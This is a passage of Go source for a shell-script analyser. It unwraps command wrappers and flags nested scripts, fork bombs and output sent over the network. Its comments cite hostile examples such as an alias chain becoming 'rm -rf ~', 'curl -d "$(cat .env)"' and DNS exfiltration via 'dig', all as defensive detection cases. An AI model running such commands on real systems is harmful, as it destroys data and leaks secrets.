package parser

import (
	"errors"
	"maps"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// wspec describes a wrapper's options so the wrapped command can be found.
type wspec struct {
	opts       string          // short options; ':' after a letter means it takes a value
	long       map[string]bool // long options taking a separate value
	positional int             // operands before the command (timeout DURATION, chroot DIR)
	assigns    bool            // NAME=value words allowed before the command
}

var wrapperSpecs = map[string]wspec{
	"sudo":        {opts: "u:g:p:C:D:h:r:t:U:T:c:EHnSbiskKlvAPBN", long: map[string]bool{"--user": true, "--group": true, "--prompt": true, "--chdir": true, "--host": true, "--role": true, "--type": true, "--other-user": true, "--command-timeout": true, "--close-from": true}, assigns: true},
	"doas":        {opts: "u:C:nsL"},
	"pkexec":      {long: map[string]bool{"--user": true}},
	"run0":        {opts: "u:g:D:", long: map[string]bool{"--user": true, "--group": true, "--chdir": true, "--setenv": true, "--unit": true, "--property": true, "--description": true}},
	"env":         {opts: "u:C:S:i0v", long: map[string]bool{"--unset": true, "--chdir": true, "--split-string": true}, assigns: true},
	"nice":        {opts: "n:", long: map[string]bool{"--adjustment": true}},
	"nohup":       {},
	"timeout":     {opts: "s:k:v", long: map[string]bool{"--signal": true, "--kill-after": true}, positional: 1},
	"time":        {opts: "f:o:pav", long: map[string]bool{"--format": true, "--output": true}},
	"stdbuf":      {opts: "i:o:e:", long: map[string]bool{"--input": true, "--output": true, "--error": true}},
	"ionice":      {opts: "c:n:p:P:u:t", long: map[string]bool{"--class": true, "--classdata": true}},
	"command":     {opts: "pvV"},
	"exec":        {opts: "a:cl"},
	"builtin":     {},
	"xargs":       {opts: "a:d:E:I:L:n:P:s:0prtxiel", long: map[string]bool{"--arg-file": true, "--delimiter": true, "--max-args": true, "--max-procs": true, "--max-lines": true, "--max-chars": true, "--replace": false}},
	"chroot":      {long: map[string]bool{"--userspec": true, "--groups": true}, positional: 1},
	"setsid":      {opts: "cfw"},
	"flock":       {opts: "w:E:c:sxnuoF", positional: 1},
	"watch":       {opts: "n:d:q:", long: map[string]bool{"--interval": true}},
	"strace":      {opts: "o:e:p:s:u:E:I:b:a:O:P:S:X:"},
	"ltrace":      {opts: "o:e:p:s:u:a:n:"},
	"taskset":     {opts: "cap", positional: 1},
	"chrt":        {opts: "bfiordRpT:P:D:", positional: 1},
	"unbuffer":    {},
	"torsocks":    {opts: "u:p:a:P:i"},
	"proxychains": {opts: "f:q"}, "proxychains4": {opts: "f:q"},
	"faketime":         {opts: "f", positional: 1},
	"nsenter":          {opts: "t:S:G:", long: map[string]bool{"--target": true, "--setuid": true, "--setgid": true}},
	"unshare":          {opts: "S:G:R:w:", long: map[string]bool{"--setuid": true, "--setgid": true, "--root": true, "--wd": true}},
	"systemd-run":      {opts: "u:p:E:M:H:", long: map[string]bool{"--unit": true, "--property": true, "--setenv": true, "--description": true, "--uid": true, "--gid": true, "--working-directory": true}},
	"script":           {opts: "c:E:I:O:T:B:", long: map[string]bool{"--command": true}},
	"su":               {opts: "c:s:g:G:w:", long: map[string]bool{"--command": true, "--shell": true, "--group": true}},
	"runuser":          {opts: "u:g:G:c:s:w:", long: map[string]bool{"--user": true, "--command": true, "--shell": true}},
	"sg":               {opts: "c:"},
	"firejail":         {},
	"catchsegv":        {},
	"cgexec":           {opts: "g:"},
	"numactl":          {opts: "C:N:m:p:i:P:", positional: 0},
	"caffeinate":       {opts: "t:w:"},
	"parallel":         {opts: "j:S:P:a:", long: map[string]bool{"--jobs": true, "--arg-file": true}},
	"busybox":          {},
	"toybox":           {},
	"fakeroot":         {opts: "l:s:i:"},
	"setpriv":          {},
	"prlimit":          {opts: "p:"},
	"ssh-agent":        {opts: "a:E:P:t:"},
	"dbus-run-session": {long: map[string]bool{"--config-file": true, "--dbus-daemon": true}},
	"dbus-launch":      {long: map[string]bool{"--config-file": true, "--autolaunch": true}},
	"xvfb-run":         {opts: "n:s:f:e:p:w:l", long: map[string]bool{"--server-num": true, "--server-args": true, "--auth-file": true, "--error-file": true, "--xauth-protocol": true, "--wait": true}},
	"rlwrap":           {opts: "a:b:C:D:e:f:F:g:H:l:o:O:p:P:q:s:S:t:w:z:"},
	"valgrind":         {},
	"cpulimit":         {opts: "l:p:e:"},
	"entr":             {},
	"sem":              {opts: "j:", long: map[string]bool{"--jobs": true, "--id": true}},
	"eatmydata":        {},
	"schedtool":        {opts: "a:p:"},
	"chpst":            {opts: "u:U:b:e:/:C:n:l:L:m:d:o:p:f:c:r:t:"},
	"softlimit":        {opts: "a:c:d:f:l:m:o:p:r:s:t:"},
	"systemd-inhibit":  {long: map[string]bool{"--what": true, "--who": true, "--why": true, "--mode": true}},
	"nocache":          {},
	"trickle":          {opts: "u:d:w:t:l:n:"},
	"bwrap":            {},
	"sandbox-exec":     {opts: "f:n:p:D:"},
	// found by a red-team (session 7): more programs that run the rest of
	// their arguments as a command
	"setarch":      {opts: "vRFZLXBIST3", positional: 1},
	"linux32":      {opts: "vRFZLXBIST3"},
	"linux64":      {opts: "vRFZLXBIST3"},
	"i386":         {opts: "vRFZLXBIST3"},
	"x86_64":       {opts: "vRFZLXBIST3"},
	"logsave":      {opts: "asv", positional: 1},
	"systemd-cat":  {opts: "t:p:", long: map[string]bool{"--identifier": true, "--priority": true, "--stderr-priority": true, "--level-prefix": true, "--namespace": true}},
	"chronic":      {opts: "ev"},
	"ifne":         {opts: "n"},
	"daemonize":    {opts: "a:c:e:E:o:p:l:u:v"},
	"nq":           {opts: "cqtw"},
	"tsp":          {opts: "nfgL:N:D:E"},
	"timelimit":    {opts: "t:T:s:S:pq"},
	"sshpass":      {opts: "p:f:d:e:P:v"},
	"torify":       {},
	"tsocks":       {},
	"proot":        {opts: "r:b:m:w:q:k:0v:", long: map[string]bool{"--rootfs": true, "--bind": true, "--mount": true, "--cwd": true, "--qemu": true, "--kernel-release": true, "--verbose": true}},
	"fakechroot":   {opts: "e:c:s:l:d:"},
	"envdir":       {positional: 1},
	"setuidgid":    {positional: 1},
	"with-lock-ex": {positional: 1},
	"retry":        {opts: "t:d:m:x:", long: map[string]bool{"--times": true, "--delay": true, "--until": true, "--while": true}},
	"cttyhack":     {},
	"dtach":        {opts: "A:a:c:n:N:p:r:e:Ezq"},
	"abduco":       {opts: "c:n:A:a:e:fr"},
	"rr":           {opts: "", positional: 1},
}

// tracePipe says whether the value of strace's (or ltrace's) -o is a shell
// command the trace is piped to ("|cmd", "!cmd"), or could be one.
func tracePipe(v field) bool {
	return v.dynamic || strings.HasPrefix(v.text, "|") || strings.HasPrefix(v.text, "!")
}

// cmdStringOpts are wrapper options whose value is a shell command line.
var cmdStringOpts = map[string]string{"su": "c", "runuser": "c", "sg": "c", "script": "c", "flock": "c", "sudo": "", "env": ""}

func base(s string) string {
	if s == "/" {
		return s
	}
	return path.Base(strings.TrimRight(s, "/"))
}

// call handles a simple command: assignments, argv, and what it means.
func (r *run) call(c *syntax.CallExpr, st *state, sc scope, in stdin) (*string, error) {
	for _, w := range c.Args {
		if err := r.substs(w, st, sc); err != nil {
			return nil, err
		}
	}
	if len(c.Args) == 0 {
		for _, as := range c.Assigns {
			if err := r.assign(as, st, sc, -1, nil); err != nil {
				return nil, err
			}
		}
		return nil, nil
	}
	argv := r.fields(st, sc, c.Args...)
	if len(argv) > 0 && !argv[0].dynamic && !entersDirs(argv) {
		// ls -d .*, grep x .*: .. itself is only named, listed or refused
		// as a directory; a command that recurses or cd enters it
		argv = slices.DeleteFunc(argv, func(f field) bool { return f.parentOnly })
	}
	if len(argv) == 0 {
		// the words expanded to nothing ("$IFS", "$EMPTY"): bash runs no
		// command, only the assignments
		for _, as := range c.Assigns {
			if err := r.assign(as, st, sc, -1, nil); err != nil {
				return nil, err
			}
		}
		return nil, nil
	}
	if len(argv) > 0 && !argv[0].dynamic {
		if body, ok := st.aliases[argv[0].text]; ok {
			// an alias: its body, followed by the arguments, is what runs
			if strings.HasSuffix(strings.TrimRight(body, " \t"), "\\") {
				// a trailing backslash joins whatever follows the alias
				// on the next line: that text is not here to read
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "alias " + argv[0].text + "=" + body, Cmd: -1})
				return nil, nil
			}
			script := body
			// A body ending in a blank makes bash expand the next word as
			// an alias too (alias x='rm -rf ' y='~': x y is rm -rf ~).
			chain := strings.HasSuffix(body, " ") || strings.HasSuffix(body, "\t")
			for k, f := range argv[1:] {
				if next, ok := st.aliases[f.text]; ok && chain && !f.dynamic && k < 16 {
					script += " " + next
					chain = strings.HasSuffix(next, " ") || strings.HasSuffix(next, "\t")
					continue
				}
				chain = false
				if f.dynamic {
					script += " " + f.text
				} else {
					script += " " + shellQuote(f.text)
				}
			}
			// bash expands an alias only on lines read after the one that
			// defined it, and only with expand_aliases: the word may as
			// well run as the command it names. Both are walked, and the
			// state after is either's.
			aliased, plain := st.clone(), st.clone()
			if err := r.nestedIn(script, aliased, sc, "nested-shell", in); err != nil {
				return nil, err
			}
			_, err := r.simple(argv, plain, sc, in, map[string]string{}, append([]*syntax.Assign(nil), c.Assigns...), nil)
			merge(st, aliased, plain)
			return nil, err
		}
	}
	if r.shopts["nullglob"] {
		// with nullglob a pattern that matches nothing is dropped: cd
		// build/* is cd (home), find x/*.o -delete is find -delete (.).
		// It may match what the script makes first: both are walked.
		kept := make([]field, 0, len(argv))
		for _, f := range argv {
			if !(f.glob && f.globWord) {
				kept = append(kept, f)
			}
		}
		if len(kept) < len(argv) {
			matched, none := st.clone(), st.clone()
			if _, err := r.simple(argv, matched, sc, in, map[string]string{}, append([]*syntax.Assign(nil), c.Assigns...), nil); err != nil {
				return nil, err
			}
			if len(kept) > 0 {
				if _, err := r.simple(kept, none, sc, in, map[string]string{}, append([]*syntax.Assign(nil), c.Assigns...), nil); err != nil {
					return nil, err
				}
			}
			merge(st, matched, none)
			return nil, nil
		}
	}
	env := map[string]string{}
	var pending []*syntax.Assign
	pending = append(pending, c.Assigns...)
	return r.simple(argv, st, sc, in, env, pending, nil)
}

// simple records one command (after peeling wrappers) and analyses it.
func (r *run) simple(argv []field, st *state, sc scope, in stdin, env map[string]string, assigns []*syntax.Assign, wrappers []string) (*string, error) {
	if len(argv) == 0 {
		return nil, nil
	}
	if len(r.facts.Commands) >= r.opts.MaxCmds {
		return nil, r.stop(CodeTooComplex, "more than %d commands", r.opts.MaxCmds)
	}
	idx := len(r.facts.Commands)
	r.facts.Commands = append(r.facts.Commands, Command{Argv: []string{}, Wrappers: []string{}, Env: map[string]string{}})
	for _, as := range assigns {
		if err := r.assign(as, st, sc, idx, env); err != nil {
			return nil, err
		}
	}
	if len(assigns) > 0 {
		// x=~ export x keeps x=~ in bash; before any special builtin
		// (:, eval, exec, set …) it does in POSIX mode, which a script
		// can turn on: what such a command's own assignment set holds
		// after it, or may
		name := ""
		for _, a := range argv {
			if a.dynamic {
				break
			}
			if t := a.text; t != "command" && t != "builtin" {
				name = t
				break
			}
		}
		switch {
		case declBuiltins[name]:
			for _, as := range assigns {
				if err := r.assign(as, st, sc, -1, nil); err != nil {
					return nil, err
				}
			}
		case specialBuiltins[name]:
			for _, as := range assigns {
				if as.Name != nil {
					st.setWild(as.Name.Value)
				}
			}
		}
	}
	cwd := st.cwd
	stdinArgs := false
	var fd *feed
	// Peel wrappers.
	for len(argv) > 0 && !argv[0].dynamic {
		name := base(argv[0].text)
		ws, ok := wrapperSpecs[name]
		if !ok || !r.a.wrappers[name] {
			break
		}
		rest, more, err := r.unwrap(name, ws, argv, st, sc, idx, env, &cwd, &fd)
		if err != nil {
			return nil, err
		}
		wrappers = append(wrappers, name)
		if name == "xargs" || name == "parallel" || name == "sem" {
			stdinArgs = true
		}
		if more == "query" { // command -v: a look-up, not an execution
			break
		}
		if fd != nil && fd.commands {
			argv = rest
			break
		}
		if more == "done" || len(rest) == 0 {
			if len(rest) == 0 && name == "xargs" {
				rest = []field{{text: "echo", pattern: "echo"}}
			} else {
				argv = argv[:1]
				wrappers = wrappers[:len(wrappers)-1]
				break
			}
		}
		argv = rest
	}
	if fd != nil {
		var done bool
		var err error
		argv, done, err = r.applyFeed(fd, argv, st, sc, in, idx, cwd)
		if err != nil || done || len(argv) == 0 {
			r.facts.Commands[idx] = Command{Name: wrappers[len(wrappers)-1], Argv: []string{wrappers[len(wrappers)-1]}, Wrappers: wrappers[:len(wrappers)-1], Depth: sc.depth, Context: sc.ctx, Cwd: cwd, Env: env, Stdin: in.kind, StdinFrom: in.from, stdinIdx: in.fromIdx, Flags: map[string]bool{}}
			if err == nil && !done {
				// every word of the command was the feed's placeholder
				// (xargs -I0 0 0): the program is whatever the input says
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "command_name", Text: wrappers[len(wrappers)-1], Cmd: idx})
			}
			return nil, err
		}
	}
	if len(argv) > 0 && !argv[0].dynamic {
		// a PATH the script set may put another program behind the name
		if prog, unknown := r.pathProgram(argv[0].text, st, env, cwd); unknown {
			argv = append([]field{{text: argv[0].text, pattern: argv[0].text, dynamic: true}}, argv[1:]...)
		} else if prog != "" {
			argv = append([]field{{text: prog, pattern: prog}}, argv[1:]...)
		}
	}
	cmd := Command{Argv: make([]string, len(argv)), Wrappers: wrappers, Depth: sc.depth, Context: sc.ctx, Cwd: cwd, Env: env, Stdin: in.kind, StdinFrom: in.from, stdinIdx: in.fromIdx}
	if cmd.Wrappers == nil {
		cmd.Wrappers = []string{}
	}
	for i, f := range argv {
		cmd.Argv[i] = f.text
		if f.dynamic {
			cmd.Dynamic = true
		}
	}
	if len(argv) > 0 && !argv[0].dynamic && !argv[0].glob && !argv[0].globWord && !argv[0].substWord {
		cmd.Name = base(argv[0].text)
	} else if len(argv) > 0 && !(sc.decl && argv[0].positional && !argv[0].glob) {
		// (run() { "$@"; } where declared: each call walks the body again
		// with its arguments, and one whose arguments are not known
		// leaves the name unknown there)
		kind := "command_name"
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: kind, Text: argv[0].text, Cmd: idx})
	}
	if stdinArgs {
		cmd.Stdin = "args"
	}
	cmd.Flags, cmd.Subcommand = flagsOf(cmd.Name, cmd.Argv)
	r.facts.Commands[idx] = cmd
	if sc.fn != "" && cmd.Name == sc.fn && sc.fnIdx >= 0 {
		r.facts.Functions[sc.fnIdx].Recursive = true
		if sc.forky {
			r.facts.Functions[sc.fnIdx].Forks = true
		}
	}
	if sc.fn != "" && sc.forky && cmd.Name != "" {
		// a call that forks: a cycle of these is a fork bomb (see finishForks)
		if r.forkCalls == nil {
			r.forkCalls = map[string][]string{}
		}
		r.forkCalls[sc.fn] = append(r.forkCalls[sc.fn], cmd.Name)
	}
	sends := false
	for _, g := range r.a.groupsOf(cmd.Name) {
		if g == "downloaders" || g == "network_clients" || g == "uploaders" {
			sends = true
		}
	}
	for _, f := range argv[1:] {
		if f.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: dynKind(f), Text: f.text, Cmd: idx})
		}
		if sends && f.substWord && !strings.HasPrefix(f.text, "-o") {
			// curl -d "$(cat .env)", dig $(…).example.com: command output sent away
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "upload", Text: f.text, Cmd: idx})
		}
	}
	if cmd.Name == "" {
		return nil, nil
	}
	local := &state{cwd: cwd, cwdReal: cwd == st.cwd && st.cwdReal, vars: st.vars, dirs: st.dirs}
	if strings.Contains(argv[0].text, "/") && r.wroteAny() {
		// ./x.sh: running a file written earlier in this script
		p := r.addPath(argv[0], local, "exec", idx, cmd.Name)
		if _, err := r.runsWritten(idx, p, st, sc, true); err != nil {
			return nil, err
		}
	}
	return r.meaning(idx, cmd.Name, argv, st, local, sc, in)
}

func dynKind(f field) string {
	switch {
	case f.proc:
		return "procsubst"
	case f.subst:
		return "cmdsubst"
	case f.glob:
		return "glob"
	}
	return "param"
}

// unwrap skips a wrapper's options and returns the wrapped argv. more is
// "query" for look-ups (command -v), "done" when the wrapper ran a command
// string it has already analysed.
func (r *run) unwrap(name string, ws wspec, argv []field, st *state, sc scope, idx int, env map[string]string, cwd *string, fdp **feed) ([]field, string, error) {
	i := 1
	var fd *feed
	if name == "xargs" || name == "parallel" || name == "sem" {
		fd = &feed{}
		*fdp = fd
	}
	strOpt := cmdStringOpts[name]
	var cmdString *field
	var pipeTo *field // strace -o '|CMD': the trace goes to a shell command
	entrShell := false
	query := false
	setCwd := func(v field) {
		p := r.addPath(v, &state{cwd: *cwd, vars: st.vars}, "cwd", idx, name)
		if p.Dynamic || p.Zone == "unknown" {
			*cwd = ""
		} else {
			*cwd = p.Real
		}
	}
	var split *field
	if name == "nice" && len(argv) > 1 && len(argv[1].text) > 1 && argv[1].text[0] == '-' && isDigits(argv[1].text[1:]) {
		i = 2
	}
	if name == "exec" {
		// exec -l, exec -a -NAME: the command starts as a login shell
		// would (argv[0] begins with -), reading the start-up files of
		// HOME
		for k := 1; k < len(argv); k++ {
			t := argv[k].text
			if argv[k].dynamic || !strings.HasPrefix(t, "-") || t == "--" {
				break
			}
			if strings.ContainsRune(t, 'l') {
				r.markLogin(idx)
			}
			if strings.HasSuffix(t, "a") && k+1 < len(argv) {
				if strings.HasPrefix(argv[k+1].text, "-") || argv[k+1].dynamic {
					r.markLogin(idx)
				}
				k++
			}
		}
	}
	for i < len(argv) {
		a := argv[i]
		t := a.text
		if a.dynamic {
			break
		}
		if ws.assigns && (isAssignWord(t) || name == "env" && strings.Contains(t, "=") && !strings.HasPrefix(t, "-")) {
			k, v, _ := strings.Cut(t, "=")
			if err := r.recordAssign(k, v, false, st, sc, idx, env); err != nil {
				return nil, "", err
			}
			i++
			continue
		}
		if t == "--" {
			i++
			if name == "env" {
				// env -- NAME=VALUE … cmd: assignments still come first
				for i < len(argv) && !argv[i].dynamic && strings.Contains(argv[i].text, "=") {
					k, v, _ := strings.Cut(argv[i].text, "=")
					if err := r.recordAssign(k, v, false, st, sc, idx, env); err != nil {
						return nil, "", err
					}
					i++
				}
			}
			break
		}
		if name == "env" && t == "-" {
			i++
			continue
		}
		if len(t) < 2 || t[0] != '-' {
			break
		}
		if strings.HasPrefix(t, "--") {
			key, val, eq := strings.Cut(t, "=")
			// getopt takes any unambiguous prefix (env --sp=…, --ch=…)
			key = longPrefix(key, maps.Keys(ws.long))
			if !eq && ws.long[key] && i+1 < len(argv) {
				i++
				val = argv[i].text
				eq = true
			}
			v := field{text: val, pattern: val}
			switch {
			case key == "--chdir" || key == "--working-directory" || key == "--wd":
				setCwd(v)
			case key == "--split-string":
				split = &v
			case key == "--command":
				cmdString = &v
			case name == "xargs" && key == "--replace":
				fd.replace = "{}"
				if eq && val != "" {
					fd.replace = val
				}
			case name == "xargs" && key == "--arg-file", name == "parallel" && key == "--arg-file":
				vv := v
				fd.argFile = &vv
			case key == "--unset":
			case key == "--output" && (name == "strace" || name == "ltrace") && tracePipe(v):
				vv := v
				pipeTo = &vv
			case key == "--output" && (name == "time" || name == "strace" || name == "ltrace"):
				r.addPath(v, &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
			case name == "valgrind" && eq && (key == "--log-file" || key == "--xml-file"):
				// %p and %q{VAR} are filled in when it runs
				if strings.Contains(val, "%q") {
					v.dynamic = true
				}
				r.addPath(v, &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
			}
			i++
			continue
		}
		consumed := false
		for j := 1; j < len(t); j++ {
			ch := t[j]
			if name == "command" && (ch == 'v' || ch == 'V') {
				query = true
			}
			if name == "entr" && ch == 's' {
				entrShell = true // entr -s 'cmd': the first operand is run by $SHELL -c
			}
			if name == "xargs" && ch == 'i' {
				fd.replace = "{}"
				if j+1 < len(t) {
					fd.replace = t[j+1:]
				}
				break
			}
			k := strings.IndexByte(ws.opts, ch)
			if k >= 0 && k+1 < len(ws.opts) && ws.opts[k+1] == ':' {
				var v field
				if j+1 < len(t) {
					s := t[j+1:]
					v = field{text: s, pattern: s}
				} else if i+1 < len(argv) {
					i++
					v = argv[i]
				}
				switch {
				case name == "env" && ch == 'C', name == "sudo" && ch == 'D', name == "run0" && ch == 'D':
					setCwd(v)
				case name == "env" && ch == 'S':
					split = &v
				case string(ch) == strOpt:
					vv := v
					cmdString = &vv
				case name == "xargs" && ch == 'I':
					fd.replace = v.text
				case (name == "xargs" || name == "parallel" || name == "sem") && ch == 'a':
					vv := v
					fd.argFile = &vv
				case (name == "strace" || name == "ltrace") && ch == 'o' && tracePipe(v):
					vv := v
					pipeTo = &vv
				case name == "strace" && ch == 'o', name == "ltrace" && ch == 'o', name == "time" && ch == 'o', name == "daemonize" && (ch == 'o' || ch == 'e' || ch == 'p' || ch == 'l'):
					r.addPath(v, &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
				}
				consumed = true
				break
			}
		}
		_ = consumed
		i++
	}
	if query {
		return nil, "query", nil
	}
	for n := 0; n < ws.positional && i < len(argv); n++ {
		switch name {
		case "flock", "with-lock-ex", "logsave":
			r.addPath(argv[i], &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
		case "envdir":
			r.addPath(argv[i], &state{cwd: *cwd, vars: st.vars}, "read", idx, name)
		case "chroot":
			r.addPath(argv[i], &state{cwd: *cwd, vars: st.vars}, "read", idx, name)
		}
		i++
	}
	if ws.positional > 0 && name != "flock" && name != "script" {
		// options may follow the positional operands (setarch ARCH -R
		// CMD): a command is never named "-R"
		for i < len(argv) && !argv[i].dynamic && len(argv[i].text) > 1 && argv[i].text[0] == '-' {
			t := argv[i].text
			i++
			if t == "--" {
				break
			}
			if strings.HasPrefix(t, "--") {
				if key, _, eq := strings.Cut(t, "="); !eq && ws.long[longPrefix(key, maps.Keys(ws.long))] {
					i++
				}
				continue
			}
			for j := 1; j < len(t); j++ {
				if k := strings.IndexByte(ws.opts, t[j]); k >= 0 && k+1 < len(ws.opts) && ws.opts[k+1] == ':' {
					if j == len(t)-1 {
						i++ // the value is the next word
					}
					break
				}
			}
		}
	}
	if pipeTo != nil {
		// The traced command runs as well: judge the pipe's command here
		// and go on with the rest.
		if pipeTo.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: pipeTo.text, Cmd: idx})
		} else if err := r.nested(pipeTo.text[1:], &state{cwd: *cwd, vars: st.vars}, sc, "nested-shell"); err != nil {
			return nil, "done", err
		}
	}
	rest := argv[i:]
	if entrShell && len(rest) > 0 && cmdString == nil {
		cmdString = &rest[0]
	}
	if name == "flock" && len(rest) >= 2 && (rest[0].text == "-c" || rest[0].text == "--command") && cmdString == nil {
		// flock FILE -c CMD, the usual order
		cmdString = &rest[1]
	}
	if name == "script" {
		// script [options] [file] [options]: options may follow the
		// typescript file, which is written (./typescript by default)
		file := false
		for k := 0; k < len(rest); k++ {
			t := rest[k].text
			switch {
			case (t == "-c" || t == "--command") && k+1 < len(rest):
				k++
				if cmdString == nil {
					cmdString = &rest[k]
				}
			case (t == "-O" || t == "-I" || t == "-B" || t == "-T" || t == "--log-out" || t == "--log-in" || t == "--log-io" || t == "--log-timing") && k+1 < len(rest):
				k++
				r.addPath(rest[k], &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
			case strings.HasPrefix(t, "-") && !rest[k].dynamic:
			default:
				file = true
				r.addPath(rest[k], &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
			}
		}
		if !file {
			r.addPath(field{text: "typescript", pattern: "typescript"}, &state{cwd: *cwd, vars: st.vars}, "write", idx, name)
		}
		if cmdString == nil {
			return nil, "done", nil // an interactive shell on the terminal
		}
		rest = nil
	}
	if split != nil {
		// env -S 'cmd args' [more args]: the string is split like a command
		// line; env's own escape \_ is a space there
		script := strings.ReplaceAll(split.text, `\_`, " ")
		for _, f := range rest {
			script += " " + shellQuote(f.text)
		}
		if split.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: split.text, Cmd: idx})
			return nil, "done", nil
		}
		return nil, "done", r.nested(script, &state{cwd: *cwd, vars: st.vars}, sc, "nested-shell")
	}
	if cmdString != nil {
		if cmdString.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: cmdString.text, Cmd: idx})
			return nil, "done", nil
		}
		return nil, "done", r.nested(cmdString.text, &state{cwd: *cwd, vars: st.vars}, sc, "nested-shell")
	}
	switch name {
	case "su", "sg", "runuser", "script":
		if name == "sg" && len(rest) > 0 {
			rest = rest[1:] // the group
		}
		if name == "su" || name == "runuser" {
			// the rest are user names (and "-"); no command given
			return nil, "done", nil
		}
	case "watch":
		if len(rest) > 0 {
			parts := make([]string, len(rest))
			for k, f := range rest {
				if f.dynamic {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
					return nil, "done", nil
				}
				parts[k] = f.text
			}
			return nil, "done", r.nested(strings.Join(parts, " "), &state{cwd: *cwd, vars: st.vars}, sc, "nested-shell")
		}
	case "parallel", "sem":
		fd.replace = "{}"
		for k, f := range rest {
			if f.text == ":::" || f.text == "::::" || f.text == ":::+" || f.text == "::::+" {
				for _, it := range rest[k+1:] {
					switch {
					case it.text == ":::" || it.text == ":::+":
					case f.text == "::::" || f.text == "::::+":
						vv := it
						fd.argFile = &vv
					default:
						fd.items = append(fd.items, it)
					}
				}
				if fd.items == nil && fd.argFile == nil {
					fd.items = []field{}
				}
				rest = rest[:k]
				break
			}
		}
		if len(rest) == 0 {
			fd.commands = true // the inputs are command lines
			return []field{}, "", nil
		}
		if len(rest) == 1 && strings.ContainsAny(rest[0].text, " ;|&") {
			fd.script = true
		}
	}
	return rest, "", nil
}

func isAssignWord(t string) bool {
	eq := strings.IndexByte(t, '=')
	if eq <= 0 {
		return false
	}
	for i := 0; i < eq; i++ {
		c := t[i]
		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || i > 0 && c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// meaning analyses what a command does with its arguments. st is the shell's
// state (changed by cd); local carries the command's own cwd.
func (r *run) meaning(idx int, name string, argv []field, st, local *state, sc scope, in stdin) (*string, error) {
	args := argv[1:]
	if name == "eval" || name == "source" || name == "." || len(r.funcs[name]) > 0 {
		// IFS=/ eval '…', IFS=/ f: code run in this shell sees the
		// command's own assignments; they are undone after
		defer r.prefixed(idx, st)()
	}
	// BASH_ENV=e bash -c :, BASH_ENV=e find … -exec bash -c : \; — the
	// shell, or a shell the command starts, runs the start-up file first
	for _, v := range []string{"BASH_ENV", "ENV"} {
		if val, ok := r.commandEnv(idx, v); ok && val != "" {
			if err := r.startupFile(idx, name, v+"="+val, r.word(val), st, sc, in); err != nil {
				return nil, err
			}
		}
	}
	if err := r.callFunction(idx, name, args, st, sc, in); err != nil {
		return nil, err
	}
	if tree, hidden := readsTree(name, args); tree {
		// after the command's own paths and the links it follows (deferred
		// calls run last first): what lies below its directories
		defer r.treeReads(idx, name, local, hidden)
	}
	if followsLinksDown(name, args) {
		// after the command's own paths: the links below its directories
		// (zip -R matches its patterns below the cwd)
		patterns := false
		for _, a := range args {
			if a.text == "--recurse-patterns" || len(a.text) > 1 && a.text[0] == '-' && a.text[1] != '-' && strings.ContainsRune(a.text, 'R') {
				patterns = name == "zip"
			}
		}
		defer r.linksBelow(idx, name, local, patterns)
	}
	if !actsOnLinks(name, args) && !keepsLinks(name, args) {
		defer r.entryLinks(idx, name, local)
	}
	if name == "patch" {
		defer r.patchTree(idx, args, local, in)
	}
	if name == "mkdir" {
		defer r.mkdirs(idx)
	}
	if name == "rsync" {
		// rsync d/ e/: what d holds, as cp's d/. is
		rargs := make([]field, len(args))
		for i, a := range args {
			rargs[i] = a
			if !a.dynamic && strings.HasSuffix(a.text, "/") && !strings.HasPrefix(a.text, "-") && i < len(args)-1 {
				rargs[i].text = a.text + "."
			}
		}
		defer r.carryWritten(rargs, local, false)
	}
	if name == "sort" {
		// sort -o FILE: the sorted text, which nobody read
		for k, a := range args {
			out, ok := "", false
			switch {
			case (a.text == "-o" || a.text == "--output") && k+1 < len(args):
				out, ok = args[k+1].text, !args[k+1].dynamic
			case strings.HasPrefix(a.text, "--output="):
				out, ok = strings.TrimPrefix(a.text, "--output="), !a.dynamic
			case strings.HasPrefix(a.text, "-o") && len(a.text) > 2:
				out, ok = a.text[2:], !a.dynamic
			}
			if ok && local.cwd != "" {
				real, _, _ := r.resolve(r.absIn(local, out))
				if r.written == nil {
					r.written = map[string]*string{}
				}
				r.written[real] = nil
			}
		}
	}
	switch name {
	case "split", "gsplit", "csplit", "gcsplit", "unzip", "gunzip", "uncompress", "7z", "7za", "unrar", "bunzip2", "unxz", "unzstd":
		// files made from data nobody read: a script run from where
		// they land is code nobody saw
		dir := local.cwd
		for k, a := range args {
			if (a.text == "-d" || a.text == "-o") && name == "unzip" && k+1 < len(args) {
				dir = r.absIn(local, args[k+1].text)
			}
		}
		if dir != "" {
			real, _, _ := r.resolve(dir)
			r.opaqueDirs = append(r.opaqueDirs, real)
		}
	}
	switch name {
	case "cpio", "sort", "wc", "xz", "lzma", "unxz", "zstd", "unzstd", "zstdmt", "rsync", "7z", "7za", "7zr":
		r.nameLists(idx, name, args, local, in)
	}
	if r.a.sendsStdin(name) && (name != "openssl" || opensslSends(r.facts.Commands[idx].Argv)) {
		// (openssl's other commands read their input locally: x509, dgst)
		r.stdinSent(idx, name, in)
	}
	switch name {
	case "ar", "dpkg-deb", "dpkg", "7z", "7za", "7zr", "unrar", "rar", "pax", "cabextract", "unar", "lha", "lzh", "arj", "atool", "aunpack", "dtrx", "unp":
		r.extractTo(idx, name, args, local)
